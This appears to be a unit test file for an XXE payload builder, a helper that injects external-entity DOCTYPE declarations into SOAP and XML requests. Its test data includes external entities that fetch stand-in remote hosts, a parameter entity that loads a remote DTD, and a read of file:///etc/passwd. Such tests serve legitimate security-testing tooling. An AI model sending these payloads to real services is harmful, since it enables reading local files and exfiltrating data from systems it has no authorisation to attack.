import { test } from 'node:test';
import assert from 'node:assert/strict';
import { withEntity } from './xxe.js';

const SOAP = '<?xml version="1.0"?>\n<soap:Envelope xmlns:soap="urn:e"><soap:Body>\n  <m:Find xmlns:m="urn:m"><m:q>books</m:q></m:Find>\n</soap:Body></soap:Envelope>';

test('an entity is declared for the root element and replaces the first text value', () => {
  assert.equal(withEntity(SOAP, '<!ENTITY p SYSTEM "http://c/x">', '&p;'), '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE soap:Envelope [<!ENTITY p SYSTEM "http://c/x">]><soap:Envelope xmlns:soap="urn:e"><soap:Body>\n  <m:Find xmlns:m="urn:m"><m:q>&p;</m:q></m:Find>\n</soap:Body></soap:Envelope>');
});

test('an existing DOCTYPE is replaced; a parameter entity needs no text; no element means no payload', () => {
  const doc = withEntity('<!DOCTYPE a [<!ENTITY old "x">]><a><b>1</b></a>', '<!ENTITY % p SYSTEM "http://c/y"> %p;', '');
  assert.equal(doc, '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://c/y"> %p;]><a><b>1</b></a>');
  assert.equal(withEntity('<a><b/></a>', '<!ENTITY p SYSTEM "file:///etc/passwd">', '&p;'), undefined, 'no text to replace');
  assert.equal(withEntity('not xml', '<!ENTITY p SYSTEM "x">', '&p;'), undefined);
});
